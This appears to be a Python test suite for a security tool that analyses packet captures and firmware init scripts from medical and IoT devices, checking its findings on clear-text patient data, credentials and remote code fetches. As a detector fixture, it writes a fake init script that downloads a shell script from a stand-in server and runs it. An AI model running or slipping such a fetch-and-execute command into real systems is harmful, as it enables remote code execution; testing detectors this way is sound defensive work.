"""Why: a capture is judged and joined through the command line; what people read must be what the frames show, no more."""
import json
import os
import pathlib
import struct
import subprocess
import tempfile
import unittest

try:
    import jsonschema
except ImportError:
    jsonschema = None

BIOPSY = os.environ["BIOPSY"]
ROOT = pathlib.Path(__file__).resolve().parent.parent
CAPTURES = pathlib.Path(os.environ.get("BIOPSY_SHARED", ROOT.parent / "shared")) / "captures"
DEVICE, SERVER, OTHER = "10.50.0.20", "203.0.113.77", "198.51.100.23"


def packed(address):
    return bytes(map(int, address.split(".")))


class Traffic:
    """Packets of a little network as a pcap of link type RAW (101): enough for what the tests say, checksums left out."""

    def __init__(self):
        self.frames = []

    def ip(self, source, target, protocol, body):
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), len(self.frames), 0, 64, protocol, 0, packed(source), packed(target))
        self.frames.append(head + body)

    def tcp(self, source, sport, target, tport, sequence, acknowledged, flags, data=b""):
        self.ip(source, target, 6, struct.pack(">HHIIBBHHH", sport, tport, sequence, acknowledged, 0x50, flags, 8192, 0, 0) + data)

    def talk(self, port, said, answer=b"", target=SERVER):
        """One connection from the device: handshake, what it said, what came back."""
        sport = 40000 + len(self.frames)
        self.tcp(DEVICE, sport, target, port, 100, 0, 0x02)
        self.tcp(target, port, DEVICE, sport, 500, 101, 0x12)
        self.tcp(DEVICE, sport, target, port, 101, 501, 0x18, said)
        if answer:
            self.tcp(target, port, DEVICE, sport, 501, 101 + len(said), 0x18, answer)
        self.tcp(DEVICE, sport, target, port, 101 + len(said), 501 + len(answer), 0x11)

    def knock(self, port, target=SERVER):
        self.tcp(DEVICE, 41000 + len(self.frames), target, port, 100, 0, 0x02)

    def write(self, path):
        out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 101)
        for i, frame in enumerate(self.frames):
            out += struct.pack("<IIII", 1_700_000_000 + i, 0, len(frame), len(frame)) + frame
        path.write_bytes(out)
        return str(path)


def run(*words):
    return subprocess.run([BIOPSY, *words], capture_output=True, timeout=120)


class Case(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.TemporaryDirectory()
        self.addCleanup(self.folder.cleanup)
        self.path = pathlib.Path(self.folder.name)

    def result(self, *words, status=None):
        done = run(*words, "--format", "json")
        if status is not None:
            self.assertEqual(done.returncode, status, done.stderr.decode())
        return json.loads(done.stdout)

    def device(self, script):
        place = self.path / "device/etc/init.d"
        place.mkdir(parents=True)
        (self.path / "device/etc/inittab").write_text("::sysinit:/etc/init.d/rcS\n")
        (place / "rcS").write_text("#!/bin/sh\n" + script)
        (place / "rcS").chmod(0o755)
        return str(self.path / "device")


class Alone(Case):
    def test_patient_data_in_clear_is_named_and_masked(self):
        traffic = Traffic()
        traffic.talk(2575, b"\x0bMSH|^~\\&|MON|W|C|H|20200101||ADT^A01|1|P|2.6\rPID|1||12345^^^H||CANARY^ALICE||19700102|F\r\x1c\r")
        capture = traffic.write(self.path / "a.pcap")
        result = self.result("capture", capture, status=1)
        finding = result["findings"][0]
        self.assertEqual((finding["rule"], finding["severity"], finding["cwe"]), ("wire-patient-data-clear", "high", [319, 359]))
        self.assertIn("PID-5", finding["title"])
        self.assertEqual(finding["endpoints"][0]["address"], SERVER)
        self.assertNotIn("ALICE", json.dumps(result))
        self.assertIn("ALICE", run("capture", capture, "--format", "json", "--show-secrets").stdout.decode())
        self.assertTrue(all(effect["witness"] == "observed" and effect["site"]["frames"] for effect in result["effects"]))

    def test_the_result_keeps_to_the_schema(self):
        if jsonschema is None:
            self.skipTest("needs python3-jsonschema")
        traffic = Traffic()
        traffic.talk(80, b"GET /a.sh HTTP/1.0\r\n\r\n", b"HTTP/1.0 200 OK\r\nContent-Length: 10\r\n\r\n#!/bin/sh\n")
        result = self.result("capture", traffic.write(self.path / "a.pcap"))
        schema = json.loads((ROOT / "docs/schema.json").read_text())
        self.assertEqual([error.message for error in jsonschema.Draft202012Validator(schema).iter_errors(result)], [])
        self.assertIn("carved", [file["kind"] for file in result["files"]])

    def test_a_cut_capture_is_read_to_its_end_with_a_doubt(self):
        traffic = Traffic()
        traffic.talk(80, b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
        path = self.path / "cut.pcap"
        traffic.write(path)
        path.write_bytes(path.read_bytes()[:-7])
        result = self.result("capture", str(path), status=0)
        self.assertIn("capture-cut", [doubt["name"] for doubt in result["doubts"]])
        self.assertIn("wire-public-peer", [finding["rule"] for finding in result["findings"]])

    def test_what_is_no_capture_gets_one_sentence_and_3(self):
        for name, content in (("missing", None), ("empty", b""), ("text", b"not a capture at all\n" * 9)):
            path = self.path / name
            if content is not None:
                path.write_bytes(content)
            done = run("capture", str(path))
            self.assertEqual((done.returncode, done.stdout), (3, b""), name)
            self.assertEqual(done.stderr.count(b"\n"), 1, done.stderr)

    def test_a_gzip_capture_reads_as_the_plain_one(self):
        import gzip
        traffic = Traffic()
        traffic.talk(23, b"\xff\xfb\x18root\r\n", b"login: ")
        plain = pathlib.Path(traffic.write(self.path / "a.pcap"))
        packed_file = self.path / "b.pcap.gz"
        packed_file.write_bytes(gzip.compress(plain.read_bytes()))
        ids = [[f["id"] for f in self.result("capture", str(p))["findings"]] for p in (plain, packed_file)]
        self.assertTrue(ids[0])
        self.assertEqual(ids[0], ids[1])

    def test_containment_is_written_from_a_capture(self):
        traffic = Traffic()
        traffic.talk(2575, b"\x0bMSH|^~\\&|M|W|C|H|2020||ADT^A01|1|P|2.6\rPID|1||1^^^H||A^B||19700102|F\r\x1c\r")
        saved = self.path / "r.json"
        run("capture", traffic.write(self.path / "a.pcap"), "--output", str(saved))
        rules = run("contain", str(saved), "--as", "csv").stdout.decode()
        self.assertIn(SERVER, rules)


class Joined(Case):
    SCRIPT = f"wget -O /tmp/run.sh http://{SERVER}/run.sh\nsh /tmp/run.sh\n"

    def finding(self, traffic, script=SCRIPT):
        capture = traffic.write(self.path / "a.pcap")
        result = self.result("scan", self.device(script), "--capture", capture, "-q")
        return result, next(f for f in result["findings"] if f["rule"] == "remote-content-executed")

    def test_a_fetch_that_is_seen_is_confirmed_with_both_proofs(self):
        traffic = Traffic()
        traffic.talk(80, b"GET /run.sh HTTP/1.0\r\n\r\n", b"HTTP/1.0 200 OK\r\nContent-Length: 10\r\n\r\n#!/bin/sh\n")
        _, finding = self.finding(traffic)
        self.assertEqual((finding["wire"], finding["confidence"]), ("seen", "confirmed"))
        sites = [part["site"] for part in finding["evidence"]["parts"] if "site" in part]
        self.assertTrue(any(site["file"] == "/etc/init.d/rcS" for site in sites) or "rcS" in json.dumps(finding["evidence"]))
        self.assertTrue(any(site.get("frames") for site in sites))

    def test_an_attempt_without_an_answer_confirms_nothing(self):
        traffic = Traffic()
        traffic.knock(80), traffic.knock(80)
        _, finding = self.finding(traffic)
        self.assertEqual(finding["wire"], "attempted-unanswered")
        self.assertNotEqual(finding["confidence"], "confirmed")

    def test_another_port_of_the_peer_confirms_nothing(self):
        traffic = Traffic()
        traffic.talk(22, b"SSH-2.0-x\r\n", b"SSH-2.0-y\r\n")
        _, finding = self.finding(traffic, self.SCRIPT.replace(f"{SERVER}/", f"{SERVER}:8080/"))
        self.assertEqual(finding["wire"], "not-exercised")

    def test_what_was_not_exercised_says_how_to_provoke_it(self):
        traffic = Traffic()
        traffic.talk(80, b"GET / HTTP/1.0\r\n\r\n", b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n", target=OTHER)
        result, finding = self.finding(traffic)
        self.assertEqual(finding["wire"], "not-exercised")
        self.assertIn("to provoke it: boot", json.dumps(finding["evidence"]))
        gap = next(f for f in result["findings"] if f["rule"] == "wire-not-derived")
        self.assertEqual((gap["severity"], gap["endpoints"][0]["address"]), ("info", OTHER))


# What its README says of each capture, as the worst severity that may be said, and the verdicts that must be there.
LOUD = {"hl7_adt": "patient-data-clear", "hl7_adt_udi_obx": "patient-data-clear", "hl7_orm": "patient-data-clear",
        "hl7_mllp_2575": "patient-data-clear", "cms_binary_515": "patient-data-clear", "mount_unmount_udp": "remote-share",
        "nfs2_udp": "remote-share", "nfs3_session_tcp": "remote-share", "nfs3_readdirplus": "remote-share", "nfs4_tcp": "remote-share",
        "portmap_sadmind_udp": "remote-share", "arm_boot_unanswered_portmap_515": "attempt-unanswered",
        "portmap_many_unanswered": "attempt-unanswered", "dicom_assoc_find": "medical-protocol-no-identity",
        "ftp_transfer": "credential-or-shell-clear", "mqtt_userpass": "credential-or-shell-clear", "rsh": "credential-or-shell-clear",
        "shell_in_tcp": "credential-or-shell-clear", "tftp": "files-clear", "tftp_rrq_small": "files-clear",
        "iot_cloud_logsink_nest": "periodic-peer", "iot_udp_beacon_tuya": "periodic-peer", "dns_exfiltration": "oddity"}
QUIET = ["hl7_mllps_tls_2576", "ipp_print", "lpd_benign_print_job", "mqtt", "syslog_mixed", "wsdiscovery_3702", "dhcp_mud_url", "dhcpv6_mud_url"]


@unittest.skipUnless(CAPTURES.exists(), "needs shared captures")
class Shared(Case):
    def rules(self, name):
        path = next(CAPTURES.glob(name + ".pcap*"))
        return {finding["rule"].removeprefix("wire-"): finding["severity"] for finding in self.result("capture", str(path))["findings"]}

    def test_each_says_what_its_readme_says(self):
        for name, kind in LOUD.items():
            with self.subTest(name):
                self.assertIn(kind, self.rules(name))

    def test_the_background_is_quiet(self):
        for name in QUIET:
            with self.subTest(name):
                self.assertLessEqual(set(self.rules(name).values()), {"info"})


if __name__ == "__main__":
    if not CAPTURES.exists():
        print("[  SKIPPED ] capture_test: needs shared captures: judged as their README says")
    unittest.main()
